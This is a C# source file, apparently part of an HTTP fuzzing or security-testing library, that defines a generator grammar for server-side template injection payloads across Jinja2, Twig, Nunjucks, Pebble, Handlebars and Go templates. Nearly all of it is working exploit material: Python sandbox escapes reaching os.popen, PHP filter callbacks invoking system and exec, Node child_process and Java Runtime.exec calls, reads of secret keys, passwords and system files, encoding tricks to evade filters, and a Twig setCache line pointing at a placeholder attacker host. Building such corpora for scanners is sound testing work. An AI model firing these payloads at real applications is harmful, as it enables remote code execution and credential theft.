namespace Weir.Http.Corpus.Attacks;

/// <summary>Double curly braces: Jinja2, Twig, Nunjucks, Handlebars, Pebble, Jinjava, Tornado, Go.</summary>
/// <remarks>OWASP WSTG-INPV-18, CAPEC-242, CWE-1336.</remarks>
internal static class SstiCurly
{
    public const string Text = """"
        ¶ ---- double curly braces: Jinja2, Twig, Nunjucks, Handlebars, Pebble, Jinjava, Tornado, Go ----
        §curlies
        12× {{«sp»«jinja»«filters»«sp»}}
        3× {%«¦-» «jinjastatement» «¦-»%}
        5× {{«sp»«twig»«sp»}}
        2× {{«sp»«nunjucks»«sp»}}
        2× {{«sp»«pebble»«sp»}}
        2× {{«goexpr»}}
        «handlebars»
        {{«sp»«jinja»«sp»
        «word»{{«sp»«jinja»«sp»}}«word»
        {% import «pymodule» %}{{«pymodule».«popen('«shellcmd»').read()¦system('«shellcmd»')»}}
        §jinja
        4× «pyobj»«pyclass»
        3× «pyobj»«pyclass»«pysubs»
        3× «pyobj»«pyclass»«pysubs»«pyexec»
        4× «flaskobj»«pyglobals»«globaluse»
        2× config«¦.items()¦.from_object('os')¦['SECRET_KEY']¦.SECRET_KEY¦.«rand»¦|pprint»
        2× self«¦._TemplateReference__context«.cycler.__init__.__globals__.os.popen('«shellcmd»').read()¦.«namespace¦joiner».__init__.__globals__.os¦»¦.__dict__¦.__init__.__globals__.__builtins__»
        request«.application¦.environ¦.args.«letter»¦['application']¦|attr('application')¦.headers¦.cookies¦.form.get('«letter»')»«pyglobals?»
        «flaskobj»|attr(«pystr»)|attr(«pystr2»)«¦|attr("__getitem__")("«os¦__builtins__»")»«¦|attr("popen")("«shellcmd»")|attr("read")()»
        «g¦url_for¦get_flashed_messages¦lipsum».«pop¦__globals__»«['current_app'].config¦.current_app.config¦.pop.__globals__.__builtins__['__import__']('os').popen('«shellcmd»').read()¦.os.environ»
        [].__class__.__base__.__subclasses__()«pyexec?»
        settings.SECRET_KEY
        «handler.settings¦handler.application.settings¦messages.storages.0.signer.key¦debug¦request.user.password¦user.password¦forloop.parentloop»
        __import__('os').«popen('«shellcmd»').read()¦system('«shellcmd»')»
        («pystr»*«#1-9»)%()
        dict(«letter»=«num»)|join
        §flaskobj
        «config¦request¦self¦cycler¦joiner¦namespace¦lipsum¦url_for¦get_flashed_messages¦range¦dict¦g¦session¦x¦«letter»¦undefined»
        §pyglobals
        4× .__init__.__globals__
        2× .__class__.__init__.__globals__
        2× .__globals__
        ['__init__']['__globals__']
        ["__class__"]["__init__"]["__globals__"]
        |attr('__init__')|attr('__globals__')
        .application.__globals__
        .__init__.__builtins__
        ['\x5f\x5finit\x5f\x5f']['\x5f\x5fglobals\x5f\x5f']
        .\u005f\u005finit\u005f\u005f.__globals__
        .__call__.__globals__
        .__getitem__.__globals__
        ._load_form_data.__globals__
        .func_globals
        §globaluse
        4× .os.popen('«shellcmd»').read()
        3× ['os'].popen('«shellcmd»').read()
        2× .__builtins__.__import__('os').popen('«shellcmd»').read()
        2× ['__builtins__']['«eval¦exec¦open¦__import__»']('«os¦«unixfile»¦__import__("os").popen("«shellcmd»").read()»')«¦.read()¦.popen('«shellcmd»').read()»
        .__builtins__.open('«unixfile»').read()
        .linecache.os.popen("«shellcmd»").read()
        |attr('__getitem__')('«os¦__builtins__»')
        .get('os').«system¦popen»('«shellcmd»')
        .sys.modules.os.popen('«shellcmd»').read()
        .current_app.config
        .json.JSONEncoder.default.__globals__
        ["o"+"s"]["po"+"pen"]('«shellcmd»')["re"+"ad"]()
        §pystr
        «"__class__"¦'__class__'¦"\x5f\x5fclass\x5f\x5f"¦'\u005f\u005fclass\u005f\u005f'¦["_"*2,"class","_"*2]|join¦request.args.«letter»¦request.args.«word»¦"__ssalc__"[::-1]¦"__cla"+"ss__"¦'__cla''ss__'¦"%c%cclass%c%c"|format(95,95,95,95)¦"_""_class_""_"¦request["args"]["«letter»"]¦'X19jbGFzc19f'.decode('base64')¦[request.args.usc*2,request.args.class,request.args.usc*2]|join»
        §pystr2
        «"__init__"¦'__mro__'¦"__base__"¦'__subclasses__'¦"__globals__"¦"\x5f\x5finit\x5f\x5f"¦["_"*2,"base","_"*2]|join»
        §pyobj
        3× ''
        3× []
        2× ""
        2× ()
        2× {}
        2× «flaskobj»
        «0¦1¦True¦None¦'abc'¦"foo"¦().__class__¦type('')»
        §pyclass
        5× .__class__.«__mro__[«#1-3»]¦__base__¦__bases__[0]¦mro()[«#1-9»]¦__base__.__base__»
        3× .__class__.__«mro__¦bases__¦base__¦dict__¦name__¦module__»
        .__class__
        ['__class__']['__«mro__'][«#1-3»]¦base__']¦bases__'][0]»
        |attr("__class__")«|attr("__base__")¦|attr("__mro__")|last¦|attr("__bases__")|first»
        ["\x5f\x5fclass\x5f\x5f"]["\x5f\x5f«mro\x5f\x5f"][«#1-2»]¦base\x5f\x5f"]»
        .__doc__[«#0-99»]
        .__getattribute__('__class__').«__base__¦__mro__»
        §pysubs
        4× .__subclasses__()
        2× .__subclasses__()[«#0-500»]
        .__subclasses__()[«#30-500»:]
        ['__subclasses__']()
        |attr("__subclasses__")()
        ["__sub"+"classes__"]()
        .__subclasses__().index(«letter»)
        .__subclasses__().pop(«#1-500»)
        .__subclasses__().__getitem__(«#1-500»)
        .__subclasses__()|length
        §pyexec
        3× ('«shellcmd»',shell=True,stdout=-1).communicate()«¦[0]¦[0].strip()¦[0].decode()»
        3× [«#30-500»]('«shellcmd»',shell=True,stdout=-1).communicate()
        2× [40]('«unixfile»').read()
        2× [«#30-500»].__init__.__globals__['__builtins__']['«eval¦exec»']("__import__('os').popen('«shellcmd»').read()")
        .__init__.__globals__['«os¦sys».«¦modules['os'].»popen('«shellcmd»').read()
        .get_data(0, "«unixfile»")
        ()._module.__builtins__['__import__']('os').popen("«shellcmd»").read()
        [«#30-500»].__init__.__globals__.«linecache¦sys.modules['os']».popen('«shellcmd»').read()
        ("«unixfile»").write("«rand»")
        §filters
        12×
        |«safe¦upper¦join¦length¦string¦list¦pprint¦tojson¦first¦e¦escape¦urlencode»
        §jinjastatement
        3× for «$c:letter» in «pyobj».__class__.__base__.__subclasses__() %}{% if «$c».__name__ == '«catch_warnings¦Popen¦_wrap_close¦FileLoader»' %}{{ «$c».__init__.__globals__['__builtins__']«.eval("__import__('os').popen('«shellcmd»').read()")¦.open('«unixfile»').read()» }}{% endif %}{% endfor
        2× if «jinja» %}«word»{% endif
        2× set «$v:letter»=«jinja» %}{{«$v»}}{% set «letter»=«num»
        2× with «$v:letter» = «jinja» %}{{«$v».popen('«shellcmd»').read()}}{% endwith
        print(«jinja»)
        include '«unixfile»'
        include request.«args.«letter»¦headers.«letter»»
        debug
        load «log¦module» %}{% get_admin_log 10 as log %}{% for e in log %}{{e.user.«password¦get_username»}}{% endfor
        for «letter» in ["«error_reporting¦display_errors¦ob_start¦disable_functions»"«,"1"¦,"0"¦»]|«sort¦map¦filter»("«ini_set¦call_user_func¦ini_get»") %}{% endfor
        set «letter» = ["«shellcmd»"]|«map¦sort¦filter»("«phpfn»")|join %}{{«letter»}}{% set «letter»=1
        if «jinja» == "«letter»" %}{{1/0}}{% endif
        for «letter» in range(«#1-9»«#100000-9999999») %}«letter»{% endfor
        extends "«unixfile»"
        raw %}«jinja»{% endraw
        import os %}{{os.system("«shellcmd»")}}{% set x=1
        apply exec('«shellcmd»')
        module «pymodule»
        autoescape None %}{% raw «word»
        §pymodule
        «os¦subprocess¦commands»
        §twig
        4× _self«¦.env¦.env.«registerUndefinedFilterCallback("«phpfn»")}}{{_self.env.getFilter("«shellcmd»")¦setCache("ftp://«evilhost»:2121")}}{{_self.env.loadTemplate("«rand»")¦enableDebug()¦isDebug()¦getFilter("«shellcmd»")»¦.getTemplateName()»
        4× ['«shellcmd»'«¦,0¦,''¦,'«rand»'»]|«filter('«phpfn»')¦map('«phpfn»')|join¦sort('«phpfn»')«¦|join»¦reduce('«phpfn»')»
        2× {«num»:'«shellcmd»'}|map('«phpfn»')
        2× '«unixfile»'|file_excerpt(«#1-30»,«#1-30»)
        app.request.«server.all|join(',')¦query.filter(0,'«shellcmd»',1024,{'options':'«phpfn»'})¦files.get(1)»
        '«shellcmd»'|«filter('«phpfn»')¦«phpfn»»
        include("««unixfile»¦@word/x»")
        source('«unixfile»')
        dump(«app¦_context¦»)
        1/((['«shellcmd»'«¦,'0'»]|«sort¦map¦reduce¦filter»('«phpfn»')«|first¦|join¦|length») == '«num»')
        include('«word»:/'~(['«shellcmd»']|map('«phpfn»')|join))
        (['«shellcmd»']|map('«phpfn»')|join)~'«rand»'
        [«num»,«num»]|«sort¦reduce¦map¦filter»((a,b)=>«phpfn»('«shellcmd»'))
        ['ob_start','call_user_func']|sort('call_user_func')
        _context|keys|join(',')
        ["error_reporting","0"]|sort("ini_set")
        {"«shellcmd»":"«phpfn»"}|«map¦reduce»("call_user_func")
        "«rand»"|«escape("«rand»")¦replace({'«letter»':'«letter»'})|upper»
        attribute(«_self¦app», '«env¦request»')
        block('«rand»')|filter('«phpfn»')
        §phpfn
        «system¦exec¦passthru¦shell_exec¦phpinfo¦assert¦popen¦call_user_func¦file_get_contents»
        §nunjucks
        range.constructor("return «nodeexec»")()
        «cycler¦joiner¦''¦[]¦"«letter»"¦x».constructor.constructor("return «nodeexec»")()
        «{}¦this¦self¦$».constructor.constructor('«alert(1)¦return process¦return «nodeexec»»')()
        §nodeexec
        2× global.process.mainModule.require('child_process').execSync('«shellcmd»')«¦.toString()»
        global.process.mainModule.constructor._load('child_process').«exec¦execSync»('«shellcmd»')
        process.«env¦mainModule.require('fs').readFileSync('«unixfile»')¦version¦cwd()¦exit()»
        require('child_process').«execSync¦spawnSync»('«shellcmd»')«¦.stdout¦.toString('utf8')»
        §pebble
        2× variable.getClass().forName('java.lang.Runtime').getRuntime().exec('«shellcmd»')
        «''¦"a"¦1¦beans¦request».getClass()«¦.forName('java.lang.Runtime').«getMethods()[6].invoke(null).exec('«shellcmd»')¦getRuntime().exec('«shellcmd»')»»
        "«letter»".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("JavaScript").eval("«java.lang.Runtime.getRuntime().exec('«shellcmd»')¦new java.lang.String('xxx')»")
        request.getClass()
        (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec('«shellcmd»')
        beans.get("«rand»")
        §goexpr
        2× .
        printf "%s" "«rand»"
        .System "«¦-c» «shellcmd»"
        html "«rand»"
        js "alert(1)"
        define "T1"}}«<script>alert(1)</script>¦«rand»»{{end}} {{template "T1"
        .«Password¦User.Password¦Secret¦Passwd¦DebugCmd "«shellcmd»"¦GetFile "«unixfile»"¦File "«unixfile»"¦Request.Header¦WriteFile "«rand»"»
        call .«word→case» "«shellcmd»"
        range $«letter», $«letter» := .}}{{$«letter»}}{{end
        §handlebars
        {{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return «nodeexec→json»;"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}
        {{#with "«letter»" as |«letter»|}}{{lookup «letter» "constructor"}}{{/with}}
        {{lookup (lookup this "constructor") "«name¦prototype»"}}
        {{#each «this¦constructor¦..»}}{{@key}}«¦={{this}}»{{/each}}
        {{«this¦../this¦@root¦@root.constructor¦constructor.name¦__proto__¦this.__proto__¦this.constructor.constructor»}}
        """";
}
